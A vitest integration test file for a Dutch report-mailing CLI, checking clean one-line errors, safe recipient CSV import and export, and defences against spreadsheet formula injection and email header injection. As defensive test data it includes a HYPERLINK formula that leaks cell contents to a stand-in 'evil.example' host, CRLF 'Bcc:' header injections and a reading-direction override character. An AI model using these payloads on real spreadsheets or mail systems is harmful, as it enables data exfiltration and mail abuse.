import { type ChildProcess, spawn } from 'node:child_process';
import { once } from 'node:events';
import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { createInterface } from 'node:readline';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { OrganisationStore } from '../../functions/adapters/organisation-store';
import type { Recipient } from '../../functions/core/organisation';
import { sampleRecipients } from '../../functions/local/sample-data';
import { applyDemoOrganisation, testOrganisation } from '../support/organisation';
import { type CliResult, type TestStack, clearSesStore, freshEnv, runCli, scanTable, sesStore, startCli, startTestStack } from '../support/test-stack';

/**
 * What an operator types and the files an operator brings, through the real CLI against the real
 * emulators: Excel's files are read, nothing is silently wiped or garbled, nothing a spreadsheet
 * would evaluate gets in or out, and every expected error is one line without a stack.
 */

const STACK_LINE = /^\s{4}at /m;
const QUARTERLY_FILE = path.resolve(import.meta.dirname, '../../examples/sociaal-domein-bel-huizen/organisatie.yaml');

let stack: TestStack;
let refusingSes: { child: ChildProcess; endpoint: string } | undefined;

beforeAll(async () => {
  stack = await startTestStack('rb-input');
  // A finished run to re-send, list and export: the demo of the quarterly example (four PDFs, not the demo's eight).
  const demo = await runCli(['demo', '--organisatie', QUARTERLY_FILE, '--period', '2026-07', '--dir', path.join(stack.dir, 'demo')], stack.env);
  expect(demo.code, demo.stderr).toBe(0);
  await clearSesStore(stack);
});

afterAll(async () => {
  if (refusingSes && refusingSes.child.exitCode === null) {
    const exited = once(refusingSes.child, 'exit');
    refusingSes.child.kill('SIGTERM');
    await exited;
  }
  await stack?.close();
});

function file(name: string, content: string | Buffer): string {
  const p = path.join(stack.dir, name);
  writeFileSync(p, content);
  return p;
}

/** A table of its own with the demo organisation in force and these recipients, so a test sees only its own list. */
async function listOf(recipients: readonly Recipient[]) {
  const fresh = await freshEnv(stack);
  await applyDemoOrganisation(fresh.tableName);
  const store = new OrganisationStore(fresh.tableName);
  await store.putRecipients(recipients);
  const cli = (...args: string[]) => runCli(args, { ...fresh.env, USER: 'tester' });
  return { ...fresh, store, cli };
}

/** One line on stderr, starting with `rapportbode: `, exit code 1, and no stack anywhere. */
function expectOneLineError(result: CliResult): string {
  expect(result.code, result.stderr).toBe(1);
  expect(`${result.stdout}\n${result.stderr}`).not.toMatch(STACK_LINE);
  const lines = result.stderr.trimEnd().split('\n');
  expect(lines, result.stderr).toHaveLength(1);
  expect(lines[0]).toMatch(/^rapportbode: /);
  return lines[0] as string;
}

/** The SES emulator started without AWS_SES_ACCOUNT: it answers GetAccount with BadRequestException. */
async function startRefusingSes(): Promise<string> {
  const script = path.resolve(import.meta.dirname, '../../functions/local/emulator-process.mjs');
  const child = spawn(process.execPath, [script, 'ses', ''], { env: { ...process.env, AWS_SES_ACCOUNT: '' }, stdio: ['pipe', 'pipe', 'inherit'] });
  const lines = createInterface({ input: child.stdout as NodeJS.ReadableStream });
  for await (const line of lines) {
    const port = Number((JSON.parse(line) as { port?: number }).port);
    lines.close();
    child.stdout?.resume();
    refusingSes = { child, endpoint: `http://127.0.0.1:${port}` };
    return refusingSes.endpoint;
  }
  throw new Error('the SES emulator did not start');
}

describe('every expected error is one line with what to do, never a stack', () => {
  it('refuses a --to with a line break (a ZodError inside the re-send) and sends nothing', async () => {
    // Prepare
    await clearSesStore(stack);
    // Act
    const result = await runCli(['resend', '2026-07-final', '--to', 'a@b.nl\r\nBcc: x@y.nl', '--gemeente', 'Huizen'], { ...stack.env, USER: 'tester' });
    // Assess
    const line = expectOneLineError(result);
    expect(line).toContain('het adres "a@b.nl\\r\\nBcc: x@y.nl" bevat een regeleinde of een ander stuurteken');
    expect(await sesStore(stack)).toEqual([]);
  });

  it('says an input file does not exist, for both imports', async () => {
    // Act
    const recipients = await runCli(['recipients', 'import', path.join(stack.dir, 'weg.csv')], { ...stack.env, USER: 'tester' });
    const figures = await runCli(['import', path.join(stack.dir, 'weg.csv')], stack.env);
    // Assess
    for (const result of [recipients, figures]) expect(expectOneLineError(result)).toContain(`het bestand ${path.join(stack.dir, 'weg.csv')} bestaat niet; controleer de naam en de map`);
  });

  it('says an output folder does not exist, before doing any work', async () => {
    // Act
    const exported = await runCli(['recipients', 'export', '/missing/x.csv'], stack.env);
    const deliveries = await runCli(['deliveries', '--csv', '/missing/x.csv'], stack.env);
    // Assess
    for (const result of [exported, deliveries]) {
      expect(expectOneLineError(result)).toBe('rapportbode: de map /missing bestaat niet; maak hem eerst aan (mkdir -p /missing) of kies een andere plek voor x.csv');
    }
  });

  it('says what to check when SES will not tell the account quota (GetAccount refused), and sends nothing', async () => {
    // Prepare
    await clearSesStore(stack);
    const ses = await startRefusingSes();
    // Act
    const result = await runCli(['run', '--period', '2026-04', '--zonder-concept', '--reden', 'test zonder SES-limieten', '--dir', path.join(stack.dir, 'run-refused')], { ...stack.env, AWS_ENDPOINT_URL_SES: ses });
    // Assess
    const line = expectOneLineError(result);
    expect(line).toMatch(/SES gaf de verzendlimieten van het account niet \(GetAccount, (\w+, )?HTTP 400: Bad Request Exception\); zonder die limieten verstuurt rapportbode niets/);
    expect(line).toContain(`Controleer het SES-endpoint ${ses} (AWS_ENDPOINT_URL_SES)`);
    expect(line).toContain('AWS_SES_ACCOUNT');
    expect(await sesStore(stack)).toEqual([]);
  });

  it('ends quietly when the reader of its output has gone (rapportbode runs | head -1)', async () => {
    // Act: the reading end closed before the CLI writes a byte, so every write meets EPIPE.
    const results: CliResult[] = await Promise.all(
      [['runs'], ['recipients', 'export'], ['deliveries', '2026-07-final']].map((args) => {
        const cli = startCli(args, stack.env);
        cli.child.stdout?.destroy();
        return cli.result;
      }),
    );
    // Assess
    for (const result of results) {
      expect(result.code, result.stderr).toBe(0);
      expect(result.stderr).toBe('');
    }
  });

  it('says a wrong command line in Dutch, in one line that points to the help, and shows that help in Dutch', async () => {
    // Act
    const wrong = await Promise.all(
      [['run', '--perode', '2026-09'], ['resend'], ['recipients', 'add', '--naam', 'J. Jansen', '--email', 'j@tiel.nl']].map((args) => runCli(args, stack.env)),
    );
    // The help as an operator starts it (the package's bin through tsx), not from the test bundle.
    const help = await runCli(['run', '--help'], stack.env, { asOperator: true });
    // Assess
    expect(wrong.map(expectOneLineError)).toEqual([
      'rapportbode: onbekende optie --perode (bedoelt u --periode?); zie rapportbode run --help',
      'rapportbode: het argument <run-id> ontbreekt; zie rapportbode resend --help',
      'rapportbode: de optie --rol <rol> is verplicht; zie rapportbode recipients add --help',
    ]);
    expect(help.code, help.stderr).toBe(0);
    expect(help.stdout).toMatch(/^Gebruik: rapportbode run \[opties\]\n/);
    expect(help.stdout).toContain('--periode <JJJJ-MM>');
  });
});

describe('recipients import: nothing wiped or garbled without a question', () => {
  const demo = sampleRecipients(testOrganisation());
  const tiel = demo.filter((r) => r.municipality === 'Tiel');

  it('refuses a file with only its header and changes nothing', async () => {
    // Prepare
    const { cli, tableName } = await listOf(demo);
    const before = await scanTable(tableName);
    // Act
    const result = await cli('recipients', 'import', file('alleen-kop.csv', '\uFEFFgemeente;rol;naam;email\r\n'));
    // Assess
    expect(result.code).toBe(1);
    expect(result.stderr).toContain('alleen-kop.csv is geweigerd (1 fout); er is niets gewijzigd.');
    expect(result.stderr).toContain('het bestand heeft alleen een kopregel en geen rijen');
    expect(await scanTable(tableName)).toEqual(before);
  });

  it('names who an import would remove and changes nothing without --bevestig; with it, removes them', async () => {
    // Prepare: a file with Tiel's recipients only; the other municipalities' would go.
    const { cli, tableName, store } = await listOf(demo);
    const before = await scanTable(tableName);
    const lines = tiel.map((r) => `${r.municipality};${r.role};${r.name};${r.email}`);
    const onlyTiel = file('alleen-tiel.csv', `gemeente;rol;naam;email\n${lines.join('\n')}\n`);
    const leaving = demo.filter((r) => r.municipality !== 'Tiel');
    // Act
    const refused = await cli('recipients', 'import', onlyTiel);
    const afterRefusal = await scanTable(tableName);
    const confirmed = await cli('recipients', 'import', onlyTiel, '--bevestig');
    // Assess
    expect(refused.code).toBe(1);
    expect(refused.stderr).not.toMatch(STACK_LINE);
    expect(refused.stderr).toContain(`alleen-tiel.csv zou ${leaving.length} ontvangers van de lijst halen; er is niets gewijzigd. Wie eraf gaat:`);
    for (const r of leaving) expect(refused.stderr).toContain(`  ${r.name} <${r.email}> (${r.municipality ?? 'reviewers'}, ${r.role})`);
    expect(refused.stderr).toContain(`rapportbode recipients import ${onlyTiel} --bevestig`);
    expect(afterRefusal).toEqual(before);
    expect(confirmed.code, confirmed.stderr).toBe(0);
    expect(confirmed.stdout).toContain(`0 toegevoegd, 0 gewijzigd, ${leaving.length} verwijderd, ${tiel.length} ongewijzigd`);
    expect(confirmed.stdout).toContain(`  verwijderd: ${leaving[0]?.name} <${leaving[0]?.email}>`);
    expect((await store.recipients()).map((r) => r.email).sort()).toEqual(tiel.map((r) => r.email).sort());
  });

  it('imports what Excel writes on a Dutch Windows: Windows-1252, sep=;, a trailing ";", E-mail, AB-lid — with the letters right', async () => {
    // Prepare
    const { cli, store } = await listOf([]);
    const excel = Buffer.from('sep=;\r\nGemeente;Rol;Naam;E-mail;\r\nTiel;AB-lid;Jos\xe9 M\xfcller;jos@tiel.example;\r\nTiel;Beleidsmedewerker;Jeroen van \x92t \xc9\xe9ntje;jeroen@tiel.example;\r\n;;;;\r\n', 'latin1');
    // Act
    const result = await cli('recipients', 'import', file('excel-ansi.csv', excel));
    // Assess
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout).toContain('(tekenset Windows-1252 (ANSI), scheidingsteken ;): 2 toegevoegd, 0 gewijzigd, 0 verwijderd');
    const names = (await store.recipients()).map((r) => [r.name, r.role]).sort();
    expect(names).toEqual([
      ['Jeroen van ’t Ééntje', 'beleidsmedewerker'],
      ['José Müller', 'ab-lid'],
    ]);
    expect(JSON.stringify(names)).not.toContain('\uFFFD');
  });

  it('imports a comma-separated file with an e-mailadres header', async () => {
    // Prepare
    const { cli, store } = await listOf([]);
    // Act
    const result = await cli('recipients', 'import', file('komma.csv', 'gemeente,rol,naam,e-mailadres\nTiel,ab-lid,"Jansen, J.",jan@tiel.example\n'));
    // Assess
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout).toContain('(tekenset UTF-8, scheidingsteken ,): 1 toegevoegd');
    expect(await store.recipients()).toEqual([{ municipality: 'Tiel', role: 'ab-lid', name: 'Jansen, J.', email: 'jan@tiel.example' }]);
  });
});

describe('nothing a spreadsheet would evaluate gets in or out', () => {
  // Each rule of a name, per character and per path (add, import), is a unit test (test/unit/recipient-validation.test.ts); here both paths through the CLI.
  it('refuses a name a spreadsheet would evaluate, one that turns the reading direction or one with CR/LF (header injection), on add and on import, and writes nothing', async () => {
    // Prepare
    const { cli, tableName } = await listOf([]);
    const before = await scanTable(tableName);
    const names = ['=HYPERLINK("http://evil.example/?x="&A1;"klik")', '@SUM(1+1)', 'Jan\u202eznasnaJ', 'Jan\r\nBcc: iedereen@example.org'];
    const csv = file('namen.csv', `gemeente;rol;naam;email\n${names.map((name, i) => `Tiel;ab-lid;"${name.replace(/"/g, '""')}";jan${i}@tiel.example`).join('\n')}\n`);
    // Act
    const formula = await cli('recipients', 'add', '--gemeente', 'Tiel', '--rol', 'AB-lid', '--naam', names[0] as string, '--email', 'jan@tiel.example');
    const crlf = await cli('recipients', 'add', '--gemeente', 'Tiel', '--rol', 'ab-lid', '--naam', names[3] as string, '--email', 'jan@tiel.example');
    const imported = await cli('recipients', 'import', csv);
    // Assess
    expect(expectOneLineError(formula)).toContain('de ontvanger is niet toegevoegd: --naam: de naam begint met =, + of @');
    expect(expectOneLineError(crlf)).toContain('--naam: de naam bevat een regeleinde of een ander stuurteken');
    expect(imported.code).toBe(1);
    expect(imported.stderr).not.toMatch(STACK_LINE);
    expect(imported.stderr).toContain('rijen 2 en 3, kolom naam: de naam begint met =, + of @');
    expect(imported.stderr).toContain('rij 4, kolom naam: de naam bevat een teken dat de leesrichting omdraait');
    expect(imported.stderr).toContain('rij 5, kolom naam: de naam bevat een regeleinde');
    expect(await scanTable(tableName)).toEqual(before);
  });

  it('neutralises every cell that starts with =, +, - or @ in the export, and reads the export back unchanged', async () => {
    // Prepare: names stored before the input rule (put directly in the table).
    const legacy: Recipient[] = [
      { municipality: 'Tiel', role: 'ab-lid', name: '=HYPERLINK("http://evil.example/?x="&A1;"klik")', email: 'oud@tiel.example' },
      { municipality: 'Tiel', role: 'beleidsmedewerker', name: '-Jan', email: 'jan@tiel.example' },
    ];
    const { cli, store } = await listOf(legacy);
    const out = path.join(stack.dir, 'export-legacy.csv');
    // Act
    const exported = await cli('recipients', 'export', out);
    // Assess
    expect(exported.code, exported.stderr).toBe(0);
    const csv = readFileSync(out, 'utf8');
    expect(csv).toContain('Tiel;ab-lid;"\'=HYPERLINK(""http://evil.example/?x=""&A1;""klik"")";oud@tiel.example');
    expect(csv).toContain("Tiel;beleidsmedewerker;'-Jan;jan@tiel.example");
    // The '-Jan row reads back as -Jan (the formula name would be refused on the way in, as any input is).
    const other = await listOf([]);
    const reimported = await other.cli('recipients', 'import', file('zonder-formule.csv', csv.split('\r\n').filter((l) => !l.includes('HYPERLINK')).join('\r\n')));
    expect(reimported.code, reimported.stderr).toBe(0);
    expect(await other.store.recipients()).toEqual([legacy[1]]);
    expect(await store.recipients()).toHaveLength(2);
  });

  it('neutralises the audit CSV of deliveries too: a --door that looks like a formula is text there', async () => {
    // Prepare: a re-send recorded as requested by "@SUM(1+1)".
    const resend = await runCli(['resend', '2026-07-final', '--gemeente', 'Huizen', '--door', '@SUM(1+1)'], stack.env);
    expect(resend.code, resend.stderr).toBe(0);
    // Act
    const result = await runCli(['deliveries', '2026-07-final', '--csv'], stack.env);
    // Assess
    expect(result.code, result.stderr).toBe(0);
    const rows = result.stdout.replace(/^\uFEFF/, '').trimEnd().split('\r\n').map((l) => l.split(';'));
    expect(rows.filter((r) => r.at(-1) === "'@SUM(1+1)").length).toBeGreaterThan(0);
    expect(rows.flat().filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
  });
});
